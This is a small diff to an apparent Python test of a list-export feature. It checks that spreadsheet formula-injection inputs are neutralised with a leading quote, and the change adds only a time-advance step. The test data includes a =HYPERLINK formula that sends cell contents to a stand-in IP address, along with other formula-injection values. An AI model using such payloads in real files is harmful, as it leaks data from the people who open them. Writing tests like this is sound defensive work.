@@ -37,6 +37,7 @@ def exported(desk: ListDesk, **how: Any) -> list[dict[str, str]]:
 def test_the_list_is_exported_with_masked_numbers_and_no_formula(desk: ListDesk) -> None:
     hostile = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
     desk.listed(1, name=hostile, unit="+1", contact="-1", case_number="@SUM(A1)", guidance='\t=1,\n"2"')
+    desk.pass_time(seconds=1)
     desk.propose(2)
     first, second = exported(desk)
     assert (first["name"], first["unit"], first["contact"]) == (f"'{hostile}", "'+1", "'-1")
